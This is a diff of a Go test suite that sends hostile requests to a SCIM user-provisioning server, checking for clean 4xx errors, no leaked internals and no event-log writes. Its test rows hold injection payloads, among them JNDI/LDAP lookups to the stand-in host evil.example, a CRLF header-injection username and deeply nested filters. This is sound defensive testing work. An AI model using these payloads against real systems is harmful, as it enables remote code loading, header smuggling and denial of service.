@@ -43,7 +43,7 @@ func (e *testEnv) rawDo(tb testing.TB, token, method, path, contentType string, 
 
 // leakMarkers are fragments of Go and dependency internals that must never reach a client.
 var leakMarkers = []string{
-	"goroutine ", ".go:", "runtime.", "panic", "interface {}", "map[string]", "json: ",
+	"goroutine ", ".go:", "runtime.", "panic", "interface {}", "map[string]", "json: cannot", "go value",
 	"eventstore:", "projections:", "nats:", "bbolt", "jetstream", "/work/", "[]interface",
 }
 
@@ -128,7 +128,7 @@ func hostileQuery(path, key, value string) string {
 // server: each gets a proper error (never a 5xx or internals in the body) and nothing reaches
 // the log.
 func TestHostileRequests(t *testing.T) {
-	e := newTestEnv(t)
+	e := newAuditEnv(t) // wired as cmd wires it, audit on (audit_test.go)
 	tenant, token := e.tenant(t, "Acme")
 	res := e.do(t, token, "POST", "/scim/v2/Users", `{"userName":"ada@example.com"}`)
 	if res.Status != http.StatusCreated {
@@ -140,11 +140,12 @@ func TestHostileRequests(t *testing.T) {
 		t.Fatalf("create group: %d %s", res.Status, res.Body)
 	}
 	staff := "/scim/v2/Groups/" + res.JSON(t)["id"].(string)
+	_, manual := e.tenant(t, "Manual") // not provisioning-managed: its company API writes
 
 	const scimJSON = "application/scim+json"
 	type hostile struct {
 		name        string
-		token       string // default: the company's
+		token       string // default: the company's; "-" none; "manual": a company managed locally
 		method      string
 		path        string
 		contentType string // default: application/scim+json when there is a body
@@ -165,14 +166,14 @@ func TestHostileRequests(t *testing.T) {
 		{name: "null body", method: "POST", path: "/scim/v2/Users", body: []byte(`null`), status: []int{400}, scimType: "invalidSyntax"},
 		{name: "empty body", method: "POST", path: "/scim/v2/Users", body: []byte{}, status: []int{400}, scimType: "invalidSyntax"},
 		{name: "two objects", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"a"}{"userName":"b"}`), status: []int{400}, scimType: "invalidSyntax"},
-		{name: "huge number", method: "POST", path: "/scim/v2/Users", body: userWith(`"x":1e999`), status: []int{400}, scimType: "invalidSyntax"},
+		{name: "huge number", method: "POST", path: "/scim/v2/Users", body: userWith(`"x":1e999`), status: []int{400}, scimType: "invalidValue"},
 		{name: "userName not a string", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":{"a":1}}`), status: []int{400}, scimType: "invalidValue"},
 		{name: "PUT malformed", method: "PUT", path: ada, body: []byte(`{"userName":"a"`), status: []int{400}, scimType: "invalidSyntax"},
 		{name: "PATCH malformed", method: "PATCH", path: ada, body: []byte(`{"Operations":[}`), status: []int{400}, scimType: "invalidSyntax"},
 		{name: "PATCH ops not a list", method: "PATCH", path: ada, body: []byte(`{"Operations":"replace"}`), status: []int{400}},
 		{name: "group PATCH malformed", method: "PATCH", path: staff, body: []byte(`{"Operations":[{"op":"add","path":"members","value":[{"value":`), status: []int{400}, scimType: "invalidSyntax"},
 		{name: "admin malformed", token: testAdminToken, method: "POST", path: "/admin/v1/tenants", body: []byte(`{"name":`), status: []int{400}},
-		{name: "company API malformed", method: "POST", path: "/api/v1/users", body: []byte(`{"email":`), status: []int{400}},
+		{name: "company API malformed", token: "manual", method: "POST", path: "/api/v1/users", body: []byte(`{"email":`), status: []int{400}},
 
 		// Content types: SCIM writes take JSON only.
 		{name: "text/plain", method: "POST", path: "/scim/v2/Users", contentType: "text/plain", body: userWith(`"active":true`), status: []int{415}},
@@ -188,6 +189,11 @@ func TestHostileRequests(t *testing.T) {
 		{name: "long userName", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"` + strings.Repeat("a", 70<<10) + `"}`), status: []int{400}, scimType: "invalidValue"},
 		{name: "long value by PATCH", method: "PATCH", path: ada, body: []byte(`{"Operations":[{"op":"replace","path":"title","value":"` + strings.Repeat("t", 100<<10) + `"}]}`), status: []int{400}, scimType: "invalidValue"},
 		{name: "long group name", method: "POST", path: "/scim/v2/Groups", body: []byte(`{"displayName":"` + strings.Repeat("g", 100<<10) + `"}`), status: []int{400}, scimType: "invalidValue"},
+		{name: "long group name by PATCH", method: "PATCH", path: staff, body: []byte(`{"Operations":[{"op":"replace","path":"displayName","value":"` + strings.Repeat("g", 40<<10) + `"}]}`), status: []int{400}, scimType: "invalidValue"},
+		{name: "long group externalId", method: "PUT", path: staff, body: []byte(`{"displayName":"Staff","externalId":"` + strings.Repeat("e", 40<<10) + `"}`), status: []int{400}, scimType: "invalidValue"},
+		{name: "long email by PATCH filter", method: "PATCH", path: ada, body: []byte(`{"Operations":[{"op":"add","path":"emails[type eq \"work\"].value","value":"` + strings.Repeat("m", 40<<10) + `@x"}]}`), status: []int{400}, scimType: "invalidValue"},
+		{name: "company API long email", token: "manual", method: "POST", path: "/api/v1/users", body: []byte(`{"email":"` + strings.Repeat("m", 40<<10) + `@x"}`), status: []int{400}},
+		{name: "company API long name", token: "manual", method: "POST", path: "/api/v1/users", body: []byte(`{"email":"n@x","name":"` + strings.Repeat("n", 100<<10) + `"}`), status: []int{400}},
 		{name: "10k emails", method: "POST", path: "/scim/v2/Users", body: userWith(manyEmails(10000)), status: []int{400}, scimType: "invalidValue"},
 		{name: "10k-element extension array", method: "POST", path: "/scim/v2/Users", body: userWith(`"urn:example:x:1.0:User":{"tags":[` + strings.Repeat(`"t",`, 9999) + `"t"]}`), status: []int{400}, scimType: "invalidValue"},
 		{name: "10k PATCH operations", method: "PATCH", path: ada, body: []byte(`{"Operations":[` + strings.Repeat(`{"op":"replace","path":"title","value":"t"},`, 9999) + `{"op":"replace","path":"title","value":"t"}]}`), status: []int{400}},
@@ -204,8 +210,12 @@ func TestHostileRequests(t *testing.T) {
 		{name: "invalid UTF-8 value", method: "POST", path: "/scim/v2/Users", body: []byte("{\"userName\":\"a\xff\xfeb\"}"), status: []int{400}, scimType: "invalidSyntax"},
 		{name: "invalid UTF-8 key", method: "POST", path: "/scim/v2/Users", body: []byte("{\"userName\":\"ok\",\"\xc0\xaf\":1}"), status: []int{400}, scimType: "invalidSyntax"},
 		{name: "UTF-16 body", method: "POST", path: "/scim/v2/Users", body: []byte("\xff\xfe{\x00\"\x00}\x00"), status: []int{400}, scimType: "invalidSyntax"},
-		{name: "NUL in userName", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"` + "\u0000" + `"}`), status: []int{400}},
-		{name: "invalid UTF-8 in the company API", method: "POST", path: "/api/v1/users", body: []byte("{\"email\":\"\xff@x\"}"), status: []int{400}},
+		{name: "escaped NUL in userName", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"a\u0000b"}`), status: []int{400}, scimType: "invalidValue"},
+		{name: "line break in userName", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"admin\r\nX-Injected: 1"}`), status: []int{400}, scimType: "invalidValue"},
+		// A lone surrogate escape decodes to U+FFFD (RFC 8259 §8.2 leaves it to the parser): accepted.
+		{name: "lone surrogate", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"\ud800"}`), status: []int{201}},
+		{name: "raw NUL in userName", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"` + "\u0000" + `"}`), status: []int{400}},
+		{name: "invalid UTF-8 in the company API", token: "manual", method: "POST", path: "/api/v1/users", body: []byte("{\"email\":\"\xff@x\"}"), status: []int{400}},
 
 		// Filters that look like injections: a SCIM filter error or an empty list.
 		list("/scim/v2/Users", "filter", `userName eq "x" or 1 eq 1`),
@@ -214,6 +224,8 @@ func TestHostileRequests(t *testing.T) {
 		list("/scim/v2/Users", "filter", `userName eq "${jndi:ldap://evil.example/a}"`),
 		list("/scim/v2/Users", "filter", `${jndi:ldap://evil.example/a}`),
 		list("/scim/v2/Users", "filter", strings.Repeat("(", 10000)+`userName eq "x"`+strings.Repeat(")", 10000)),
+		list("/scim/v2/Users", "filter", strings.Repeat("(", 1000)+`userName eq "x"`+strings.Repeat(")", 1000)),
+		list("/scim/v2/Users", "filter", strings.Repeat(`not (`, 1000)+`userName pr`+strings.Repeat(")", 1000)),
 		list("/scim/v2/Users", "filter", strings.Repeat(`emails[`, 100)+`value eq "x"`+strings.Repeat(`]`, 100)),
 		list("/scim/v2/Users", "filter", `userName eq "x"]`),
 		list("/scim/v2/Users", "filter", `userName eq "x\u0000"`),
@@ -278,6 +290,8 @@ func TestHostileRequests(t *testing.T) {
 			case "":
 			case "-":
 				token = ""
+			case "manual":
+				token = manual
 			default:
 				token = tt.token
 			}
@@ -289,6 +303,9 @@ func TestHostileRequests(t *testing.T) {
 			if res.Status >= 500 || !slices.Contains(tt.status, res.Status) {
 				t.Errorf("status = %d, want one of %v: %.300s", res.Status, tt.status, res.Body)
 			}
+			if testing.Verbose() {
+				t.Logf("%d %.200s", res.Status, res.Body)
+			}
 			if res.Status >= 400 {
 				checkErrorBody(t, strings.SplitN(tt.path, "?", 2)[0], res)
 				if tt.scimType != "" {
@@ -296,6 +313,10 @@ func TestHostileRequests(t *testing.T) {
 						t.Errorf("scimType = %v, want %s: %.300s", got, tt.scimType, res.Body)
 					}
 				}
+			}
+			if res.Status < 300 {
+				before = streamCount(t, e) // an accepted oddity (see its row)
+				return
 			}
 			if n := streamCount(t, e); n != before {
 				t.Errorf("stream has %d messages, want %d: the request reached the log", n, before)
@@ -305,9 +326,17 @@ func TestHostileRequests(t *testing.T) {
 	}
 	t.Logf("%d hostile requests for company %s", len(tests), tenant)
 
-	// The same store still serves its normal clients.
-	if res := e.do(t, token, "GET", ada, ""); res.Status != http.StatusOK {
-		t.Errorf("GET ada after the barrage: %d %s", res.Status, res.Body)
+	// The projector is still running (no hostile value broke a read-model write) and the
+	// company's normal client is served.
+	if res := e.do(t, "", "GET", "/healthz", ""); res.Status != http.StatusOK {
+		t.Errorf("healthz after the barrage: %d %s", res.Status, res.Body)
+	}
+	if res := e.do(t, token, "POST", "/scim/v2/Users", `{"userName":"after@example.com"}`); res.Status != http.StatusCreated {
+		t.Errorf("create after the barrage: %d %s", res.Status, res.Body)
+	}
+	res = e.do(t, token, "GET", hostileQuery("/scim/v2/Users", "filter", `userName eq "after@example.com"`), "")
+	if res.Status != http.StatusOK || res.JSON(t)["totalResults"] != float64(1) {
+		t.Errorf("read after the barrage: %d %s", res.Status, res.Body)
 	}
 }
 
